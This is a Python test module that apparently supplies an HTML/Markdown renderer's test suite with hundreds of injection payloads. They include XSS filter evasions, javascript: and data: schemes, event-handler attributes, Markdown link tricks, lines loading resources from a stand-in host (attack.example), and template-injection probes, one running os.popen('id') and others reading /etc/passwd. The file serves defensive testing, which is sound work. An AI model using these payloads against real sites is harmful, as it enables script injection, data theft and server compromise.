"""Attacks on a page, written as an author of content could write them.

Whatever runs calls `boom(…)`, which the test listens for, or asks another host for something.
Sources of the forms: OWASP's list of filter evasions, the HTML standard's attributes that run
scripts, Markdown's ways to write links, and the template languages' expressions.
"""

from __future__ import annotations

import urllib.parse

RUN = "boom(1)"
HANDLERS = (
    "onload onerror onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter"
    " onscroll onpageshow onhashchange onresize oninput onbeforeinput onwheel onauxclick oncut"
).split()
TAGS_THAT_LOAD = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "iframe src=x", "object data=x", "embed src=x", "link rel=stylesheet href=x", "style",
    "marquee", "select autofocus", "textarea autofocus", "math", "form", "a href=x", "p", "table",
)  # fmt: skip
SCHEMES = (
    "javascript:boom(1)", "JaVaScRiPt:boom(1)", " javascript:boom(1)", "java\tscript:boom(1)",
    "java&#10;script:boom(1)", "javascript&colon;boom(1)", "&#106;avascript:boom(1)",
    "&#x6A;avascript:boom(1)", "javascript&#58;boom(1)", "\x01javascript:boom(1)",
    "data:text/html,<script>boom(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5ib29tKDEpPC9zY3JpcHQ+", "vbscript:boom(1)",
    "//attack.example/x", "\\\\attack.example\\x", "/\\attack.example/x", "https:attack.example",
    "feed:javascript:boom(1)", "blob:null/boom", "view-source:javascript:boom(1)",
    "jar:javascript:boom(1)", "livescript:boom(1)", "javascript://%0aboom(1)",
)  # fmt: skip
SCRIPTS = (
    "<script>boom(1)</script>", "<ScRiPt>boom(1)</sCrIpT>", "<script src=//attack.example/x.js>",
    "<script\n>boom(1)</script\n>", "<script/x>boom(1)</script>", "<<script>boom(1)//<</script>",
    "</title><script>boom(1)</script>", "</textarea><script>boom(1)</script>",
    "</style><script>boom(1)</script>", "</script><script>boom(1)</script>",
    "--><script>boom(1)</script>", "]]><script>boom(1)</script>", "<!--><script>boom(1)</script>",
    "<noscript><p title='</noscript><script>boom(1)</script>'>",
    "<svg><script>boom(1)</script></svg>", "<svg><script href=data:,boom(1) />",
    "<math><mtext><script>boom(1)</script></mtext></math>",
    "<template><script>boom(1)</script></template>", "<xmp><script>boom(1)</script></xmp>",
    "<plaintext><script>boom(1)</script>",
    "<object data='data:text/html,<script>boom(1)</script>'>",
    "<iframe srcdoc='<script>boom(1)</script>'></iframe>",
    "<base href='https://attack.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:boom(1)'>",
    "<meta http-equiv=refresh content='0;url=https://attack.example/'>",
    "<link rel=import href='https://attack.example/'>",
    "<link rel=preload as=script href='https://attack.example/x.js'>",
    "<style>@import 'https://attack.example/x.css';</style>",
    "<p style='background:url(https://attack.example/x)'>", "<p style='behavior:url(x)'>",
    '<div style="animation-name:x" onanimationstart=boom(1)>',
    "<form action=javascript:boom(1)><button>x</button></form>",
    "<button formaction=javascript:boom(1)>x</button>",
    "<isindex action=javascript:boom(1) type=image>",
    "<a href=x ping=https://attack.example/>x</a>",
    "<img src=https://attack.example/x>", "<img srcset='https://attack.example/x 2x'>",
    "<picture><source srcset=https://attack.example/x></picture>",
    "<video poster=https://attack.example/x></video>", "<image src=x onerror=boom(1)>",
    "<svg><image href=https://attack.example/x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=boom(1)>#x' /></svg>",
    "<svg><animate attributeName=href values=javascript:boom(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onload to=boom(1) /></svg>",
    "<svg><foreignObject><img src=x onerror=boom(1)></foreignObject></svg>",
    "<math href=javascript:boom(1)>x</math>",
    "<math><mglyph><style><!--</style><img title='--><img src=x onerror=boom(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=boom(1)>",
    "<a id=boom href=x>x</a><a id=boom name=y>x</a>", "<img name=body src=x>",
    "<input type=hidden accesskey=x onclick=boom(1)>",
    "<dialog open onclose=boom(1)>x</dialog>", "<portal src=https://attack.example/>",
    "<applet code=x></applet>", "<keygen autofocus onfocus=boom(1)>",
    "<bgsound src=javascript:boom(1)>", "<layer src=https://attack.example/></layer>",
    "<frameset onload=boom(1)>", "<?xml-stylesheet href=javascript:boom(1)?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    '" onmouseover=boom(1) x="', "' onmouseover=boom(1) x='", "` onmouseover=boom(1) x=`",
    '"><img src=x onerror=boom(1)>', "'><img src=x onerror=boom(1)>",
    "</p><img src=x onerror=boom(1)>",
    '"-boom(1)-"', "';boom(1);//", '\\";boom(1);//', "</a><svg/onload=boom(1)>",
    "\u2028boom(1)\u2029", "＜script＞boom(1)＜/script＞", "<scr\u0000ipt>boom(1)</scr\u0000ipt>",
    "%3Cscript%3Eboom(1)%3C/script%3E", "&lt;script&gt;boom(1)&lt;/script&gt;",
    "&#60;script&#62;boom(1)&#60;/script&#62;", "\\u003cscript\\u003eboom(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-boom(1)+ADw-/script+AD4-", "\ufeff<script>boom(1)</script>",
    "<svg onload=boom(1)//", "<img/src=x/onerror=boom(1)>", "<img src=x onerror\n=\nboom(1)>",
    '<a href="javascript:boom(1)">x</a>', "<a href='java\nscript:boom(1)'>x</a>",
    '<a href="\u00a0javascript:boom(1)">x</a>', "<a xlink:href=javascript:boom(1)>x</a>",
)  # fmt: skip
MARKDOWN = (
    *(f"[x](<{scheme}>)" for scheme in SCHEMES),
    *(f"![x](<{scheme}>)" for scheme in SCHEMES[:8]),
    "[x]: javascript:boom(1)\n\n[x]", "<javascript:boom(1)>", "[x](javascript:boom(1) 'y')",
    "[x](x \"' onmouseover=boom(1)\")", '![x" onerror=boom(1) y="](x)', "[`x`](javascript:boom(1))",
    "```\n</code></pre><script>boom(1)</script>\n```", "`</code><script>boom(1)</script>`",
    "| a |\n|---|\n| <script>boom(1)</script> |", "x\n: <img src=x onerror=boom(1)>",
    "[x](https://attack.example){: onclick=boom(1) }", "# x {: onclick=boom(1) }",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*191 }}", "{% if 1 %}1337{% endif %}", "{{ ''.__class__.__mro__ }}", "${7*191}",
    "#{7*191}", "<%= 7*191 %>", "{{ self.__init__.__globals__ }}", "{# x #}", "{{ config }}",
    "{% include '/etc/passwd' %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{filename}/etc/passwd", "{static}/association.md", "%(num)s %s {name} {0.__class__}",
)  # fmt: skip
EVALUATED = "1337"
"""What 7 × 191 is: nobody writes it, so its being on a page shows that something evaluated."""


def payloads() -> tuple[str, ...]:
    """Every attack once."""
    handlers = tuple(
        f"<{tag} {handler}={RUN}>" for tag in TAGS_THAT_LOAD for handler in HANDLERS[:4]
    )
    others = tuple(f"<img src=x {handler}='{RUN}'>" for handler in HANDLERS[4:])
    encoded = tuple(urllib.parse.quote(script) for script in SCRIPTS[:4])
    every = (*SCRIPTS, *handlers, *others, *MARKDOWN, *TEMPLATES, *encoded)
    return tuple(dict.fromkeys(every))
